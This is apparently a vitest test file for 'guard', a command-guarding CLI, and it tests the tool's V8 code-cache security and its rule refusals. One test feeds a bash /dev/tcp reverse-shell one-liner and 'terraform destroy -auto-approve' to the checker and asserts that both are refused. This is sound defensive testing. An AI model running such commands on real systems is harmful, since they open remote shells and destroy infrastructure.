import {execFileSync} from 'node:child_process';
import {chmodSync, chownSync, cpSync, existsSync, lstatSync, mkdirSync, readFileSync, readdirSync, rmSync, symlinkSync, utimesSync, writeFileSync} from 'node:fs';
import {join} from 'node:path';
import {afterEach, beforeEach, describe, expect, it} from 'vitest';
import {execa} from 'execa';
import {bin, guard, root, sandbox} from '../helpers/guard.js';

let box: ReturnType<typeof sandbox>;
beforeEach(() => {
  box = sandbox();
});
afterEach(() => box.remove());

// guard compiles its run path through a V8 code cache kept in the user's state folder. The
// cache only ever changes how fast guard starts: what a run prints, exits with and records
// is the same with or without one, and a cache guard did not write itself is never used.
const cacheDir = () => join(box.env.XDG_STATE_HOME!, 'guard/code-cache');
const caches = () => (existsSync(cacheDir()) ? readdirSync(cacheDir()).filter((name) => name.startsWith('lean-run-')) : []);
const rows = (db = box.env.GUARD_DB!) => execFileSync('sqlite3', ['-json', db, 'select exit_code, status from runs order by id'], {encoding: 'utf8'});

const script = ['run', '--', 'sh', '-c', 'echo out; echo err >&2; exit 3'];

/** bin/run.js executed as a user runs it, through its shebang. */
async function runEcho(env = box.env) {
  const result = await execa(bin, script, {env: {...process.env, NODE_OPTIONS: undefined, ...env}, extendEnv: false, reject: false, stdin: 'ignore'});
  expect(result.stdout).toBe('out');
  expect(result.stderr).toContain('err');
  expect(result.exitCode).toBe(3);
  return result;
}

/** The cache's file name, made by a first run in this sandbox. */
async function cacheName(): Promise<string> {
  await runEcho();
  expect(caches()).toHaveLength(1);
  return caches()[0]!;
}

describe('guard run and its code cache', () => {
  it('runs correctly on its first run after a build (no cache), writes one 0600 file of its own, and runs the same from it', async () => {
    expect(caches()).toEqual([]);
    await runEcho();
    const [name] = caches();
    expect(name).toMatch(new RegExp(`^lean-run-[0-9a-f]{16}-${process.version.replaceAll('.', '\\.')}-${process.arch}-[0-9a-f]+\\.bin$`));
    const file = join(cacheDir(), name!);
    const stat = lstatSync(file);
    expect(stat.isFile()).toBe(true);
    expect(stat.mode & 0o777).toBe(0o600);
    expect(stat.uid).toBe(process.getuid!());
    expect(lstatSync(cacheDir()).mode & 0o777).toBe(0o700);
    const written = readFileSync(file);

    // The same file, not a new one renamed into its place: V8 accepted it.
    await runEcho();
    expect(lstatSync(file).ino).toBe(stat.ino);
    expect(readFileSync(file).equals(written)).toBe(true);
    expect(caches()).toEqual([name]);
    expect(JSON.parse(rows())).toEqual([
      {exit_code: 3, status: 'failed'},
      {exit_code: 3, status: 'failed'},
    ]);
  });

  it('keeps a second cache for code it walks, written by a run that read its tree from the parse cache, and reads it from then on', async () => {
    const walks = () => (existsSync(cacheDir()) ? readdirSync(cacheDir()).filter((name) => name.startsWith('lean-run.walk-')) : []);
    // The first run parses the code, which sets V8 flags: a cache made after would be rejected.
    await runEcho();
    expect(walks()).toEqual([]);
    // The second reads the code's tree from the parse cache, walks it, and keeps what it compiled.
    await runEcho();
    const [name] = walks();
    expect(name).toMatch(new RegExp(`^lean-run\\.walk-[0-9a-f]{16}-${process.version.replaceAll('.', '\\.')}-${process.arch}-[0-9a-f]+\\.bin$`));
    const file = join(cacheDir(), name!);
    const stat = lstatSync(file);
    expect(stat.mode & 0o777).toBe(0o600);
    expect(stat.size).toBeGreaterThan(lstatSync(join(cacheDir(), caches()[0]!)).size);
    await runEcho();
    expect(lstatSync(file).ino).toBe(stat.ino);

    // A plain command walks nothing: it reads the first cache and writes no other.
    const plain = await execa(bin, ['run', '--', 'true'], {env: {...process.env, NODE_OPTIONS: undefined, ...box.env}, extendEnv: false, reject: false, stdin: 'ignore'});
    expect(plain.exitCode).toBe(0);
    expect(readdirSync(cacheDir()).filter((file) => !file.startsWith('lean-packs-')).sort()).toEqual([caches()[0]!, name!].sort());

    // One V8 rejects is run past and made again; the run is the same.
    writeFileSync(file, 'not a V8 code cache\n', {mode: 0o600});
    await runEcho();
    expect(readFileSync(file, 'utf8')).not.toBe('not a V8 code cache\n');
    expect(JSON.parse(rows())).toHaveLength(5);
  });

  it("compiles the rules' checks, through a cache of their own, only once a command names a program one of them judges, and decides the same from it", async () => {
    const packs = () => (existsSync(cacheDir()) ? readdirSync(cacheDir()).filter((name) => name.startsWith('lean-packs-')) : []);
    const check = (...command: string[]) => execa(bin, ['check', '--', ...command], {env: {...process.env, NODE_OPTIONS: undefined, ...box.env}, extendEnv: false, reject: false, stdin: 'ignore'});
    const refused = async (...command: string[]) => {
      const result = await check(...command);
      expect([result.exitCode, result.stderr.split(':').slice(0, 2).join(':')]).toEqual([77, 'guard: refused by rule cloud.terraform-destroy']);
    };

    // `true` and `sh -c` (whose network-shell check stays on the start-up path) need none of them.
    for (const command of [['true'], ['true'], ['sh', '-c', 'true'], ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']]) await check(...command);
    expect((await check('bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')).stderr).toMatch(/^guard: refused by rule remote\.network-shell:/);
    expect(packs()).toEqual([]);

    await refused('terraform', 'destroy');
    const [name] = packs();
    expect(name).toMatch(new RegExp(`^lean-packs-[0-9a-f]{16}-${process.version.replaceAll('.', '\\.')}-${process.arch}-[0-9a-f]+\\.bin$`));
    const file = join(cacheDir(), name!);
    const stat = lstatSync(file);
    expect(stat.mode & 0o777).toBe(0o600);
    await refused('terraform', 'destroy');
    // A script that is parsed, then one whose tree is read from the parse cache: the same decision.
    await refused('sh', '-c', 'cd infra && terraform destroy -auto-approve');
    await refused('sh', '-c', 'cd infra && terraform destroy -auto-approve');
    expect(lstatSync(file).ino).toBe(stat.ino);
    expect(packs()).toEqual([name]);

    // One V8 rejects is run past and made again; the decision is the same.
    writeFileSync(file, 'not a V8 code cache\n', {mode: 0o600});
    await refused('terraform', 'destroy');
    expect(readFileSync(file, 'utf8')).not.toBe('not a V8 code cache\n');
  });

  it("fails closed when the rules' checks are missing from the install: exit 70 in one line, nothing run, no row", async () => {
    // A copy of the built install whose checks bundle is gone (a broken upgrade, a package pruned by hand).
    const install = join(box.dir, 'install');
    for (const part of ['bin', 'dist', 'package.json', 'oclif.manifest.json']) cpSync(join(root, part), join(install, part), {recursive: true});
    symlinkSync(join(root, 'node_modules'), join(install, 'node_modules'));
    rmSync(join(install, 'dist/fast/packs.cjs'));
    const marker = join(box.dir, 'ran');
    const run = (...command: string[]) => execa(process.execPath, [join(install, 'bin/run.js'), ...command], {env: {...process.env, NODE_OPTIONS: undefined, ...box.env}, extendEnv: false, reject: false, stdin: 'ignore'});

    // A command no check judges needs no checks.
    expect((await run('check', '--', 'true')).exitCode).toBe(0);
    for (const command of [['check', '--', 'terraform', 'destroy'], ['run', '--', 'sh', '-c', `touch ${marker}; terraform version`]]) {
      const result = await run(...command);
      expect(result.exitCode).toBe(70);
      expect(result.stderr).toMatch(/^guard: internal error[^\n]*packs\.cjs'$/);
      expect(result.stdout).toBe('');
    }

    expect(existsSync(marker)).toBe(false);
    expect(existsSync(box.env.GUARD_DB!) ? JSON.parse(rows() || '[]') : []).toEqual([]);
  });

  it('runs correctly when its state folder cannot be written, and leaves no cache behind', async () => {
    // The state folder is a file: no folder can be made in it, whoever guard runs as.
    const state = join(box.dir, 'state-file');
    writeFileSync(state, 'not a folder\n');
    const env = {...box.env, XDG_STATE_HOME: state};
    await runEcho(env);
    await runEcho(env);
    expect(readFileSync(state, 'utf8')).toBe('not a folder\n');
    expect(JSON.parse(rows())).toHaveLength(2);
  });

  it('writes its cache from `node bin/run.js` too, before parsing a script sets V8 flags (V8 would reject one made after), and shares it with the executable', async () => {
    const result = await guard(script, {env: box.env});
    expect([result.exitCode, result.stdout]).toEqual([3, 'out']);
    expect(caches()).toHaveLength(1);
    const file = join(cacheDir(), caches()[0]!);
    const {ino} = lstatSync(file);
    const again = await guard(script, {env: box.env});
    expect([again.exitCode, again.stdout]).toEqual([3, 'out']);
    await runEcho();
    expect(caches()).toHaveLength(1);
    expect(lstatSync(file).ino).toBe(ino);
  });

  it('runs correctly when the cache folder is a file', async () => {
    mkdirSync(join(box.env.XDG_STATE_HOME!, 'guard'), {recursive: true});
    writeFileSync(cacheDir(), 'x');
    await runEcho();
    expect(readFileSync(cacheDir(), 'utf8')).toBe('x');
  });

  it('neither reads nor writes a cache in a folder others may write', async () => {
    const name = await cacheName();
    const file = join(cacheDir(), name);
    writeFileSync(file, 'not a V8 code cache\n', {mode: 0o600});
    chmodSync(cacheDir(), 0o777);
    await runEcho();
    expect(readFileSync(file, 'utf8')).toBe('not a V8 code cache\n');
    rmSync(file);
    await runEcho();
    expect(caches()).toEqual([]);
  });

  it('does not follow a symlink in the cache\'s place, nor replace it', async () => {
    const name = await cacheName();
    const file = join(cacheDir(), name);
    // Not a cache V8 accepts: a run that read through the link would write a cache in its place.
    const target = join(box.dir, 'target.bin');
    writeFileSync(target, 'not a V8 code cache\n', {mode: 0o600});
    const before = readFileSync(target);
    rmSync(file);
    symlinkSync(target, file);
    await runEcho();
    await runEcho();
    expect(lstatSync(file).isSymbolicLink()).toBe(true);
    expect(readFileSync(target).equals(before)).toBe(true);
  });

  it('replaces a cache V8 rejects, and leaves alone one that another user owns or others may write', async () => {
    const name = await cacheName();
    const file = join(cacheDir(), name);
    const garbage = Buffer.from('not a V8 code cache\n');

    // Its own file, 0600, but not a cache V8 accepts: the run is right and the file is rewritten.
    writeFileSync(file, garbage, {mode: 0o600});
    await runEcho();
    expect(readFileSync(file).equals(garbage)).toBe(false);
    expect(lstatSync(file).mode & 0o777).toBe(0o600);

    // Writable by its group: neither read nor rewritten.
    writeFileSync(file, garbage);
    chmodSync(file, 0o620);
    await runEcho();
    expect(readFileSync(file).equals(garbage)).toBe(true);

    // Owned by someone else (guard's tests run as root, which may give a file away).
    if (process.getuid!() === 0) {
      chmodSync(file, 0o600);
      chownSync(file, 65534, 65534);
      await runEcho();
      expect(readFileSync(file).equals(garbage)).toBe(true);
      expect(lstatSync(file).uid).toBe(65534);
    }
  });

  it('removes all but the three newest caches of other builds when it writes its own, and nothing else', async () => {
    mkdirSync(cacheDir(), {recursive: true, mode: 0o700});
    const at = (file: string, year: number, day = 1) => utimesSync(file, new Date(Date.UTC(year, 0, day)), new Date(Date.UTC(year, 0, day)));
    // Caches older builds or other Node versions left, written on days in another order than their names sort.
    const days = [5, 1, 4, 2, 3];
    const old = days.map((day, index) => {
      const name = `lean-run-${'0'.repeat(15)}${index}-v20.0.${index}-${process.arch}-0.bin`;
      writeFileSync(join(cacheDir(), name), 'an older build\'s cache\n', {mode: 0o600});
      at(join(cacheDir(), name), 2026, day);
      return name;
    });
    const newest = old.filter((_, index) => days[index]! >= 3);
    // The check path's cache, a file of another kind, another user's cache and a symlink to
    // an old cache-named file: none of them is guard's to remove.
    const check = `lean-check-${'0'.repeat(16)}-v20.0.0-${process.arch}-0.bin`;
    const foreign = `lean-run-${'f'.repeat(16)}-v20.0.0-${process.arch}-0.bin`;
    const link = `lean-run-${'e'.repeat(16)}-v20.0.0-${process.arch}-0.bin`;
    for (const name of [check, 'notes.txt', foreign]) {
      writeFileSync(join(cacheDir(), name), 'x', {mode: 0o600});
      at(join(cacheDir(), name), 2025);
    }
    const target = join(box.dir, link);
    writeFileSync(target, 'x', {mode: 0o600});
    at(target, 2020);
    symlinkSync(target, join(cacheDir(), link));
    const root = process.getuid!() === 0;
    if (root) chownSync(join(cacheDir(), foreign), 65534, 65534);

    await runEcho();
    const mine = caches().filter((name) => name.includes(process.version));
    expect(mine).toHaveLength(1);
    // Not root, the "foreign" file is this user's own, and the oldest: it goes too.
    expect(readdirSync(cacheDir()).sort()).toEqual([...mine, ...newest, check, link, 'notes.txt', ...(root ? [foreign] : [])].sort());
    expect(existsSync(target)).toBe(true);

    // A run that finds its cache writes nothing, and so removes nothing, not even the oldest.
    const oldest = `lean-run-${'a'.repeat(16)}-v20.0.9-${process.arch}-0.bin`;
    writeFileSync(join(cacheDir(), oldest), 'x', {mode: 0o600});
    at(join(cacheDir(), oldest), 2019);
    await runEcho();
    expect(readdirSync(cacheDir())).toContain(oldest);
  });

  it('gives history, show, stats, verify and locks a cache each once they have read the log, the same file from then on; a read that fails writes none', async () => {
    const reading = (args: string[]) => execa(bin, args, {env: {...process.env, NODE_OPTIONS: undefined, ...box.env}, extendEnv: false, reject: false, stdin: 'ignore'});
    const readCaches = () => (existsSync(cacheDir()) ? readdirSync(cacheDir()).filter((name) => !name.startsWith('lean-run-')).sort() : []);
    // No log yet (74), no such run (1), a bad flag (64), no such policy (78): nothing compiled worth keeping, and a reading command that fails leaves nothing.
    expect((await reading(['history'])).exitCode).toBe(74);
    await runEcho();
    expect((await reading(['show', '99'])).exitCode).toBe(1);
    expect((await reading(['stats', '--since', 'soon'])).exitCode).toBe(64);
    expect((await reading(['locks', '--policy', join(box.dir, 'no-such-policy.yaml')])).exitCode).toBe(78);
    expect(readCaches()).toEqual([]);

    for (const args of [['history'], ['show', '1'], ['stats'], ['verify'], ['locks']]) expect((await reading(args)).exitCode).toBe(0);
    const names = readCaches();
    expect(names.map((name) => name.split('-').slice(0, 2).join('-'))).toEqual(['lean-history', 'lean-locks', 'lean-show', 'lean-stats', 'lean-verify']);
    const inodes = names.map((name) => lstatSync(join(cacheDir(), name)).ino);
    const again = await reading(['history']);
    expect(again.stdout).toContain('failed');
    expect(readCaches()).toEqual(names);
    expect(names.map((name) => lstatSync(join(cacheDir(), name)).ino)).toEqual(inodes);
  });
});
